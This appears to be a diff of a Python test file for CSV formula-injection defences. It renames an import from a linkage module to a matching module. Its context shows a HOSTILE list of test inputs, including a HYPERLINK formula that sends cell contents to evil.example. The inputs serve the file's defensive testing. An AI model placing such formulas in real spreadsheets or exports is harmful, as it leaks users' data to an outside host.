@@ -12,7 +12,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from orchestration.lib.config import get_settings
-from orchestration.lib.linkage.run import REVIEW_DECISIONS, _export_review_queue, _load_decisions
+from orchestration.lib.matching.run import REVIEW_DECISIONS, _export_review_queue, _load_decisions
 from orchestration.lib.spreadsheet import FORMULA_START, defuse, people_csv, undo
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
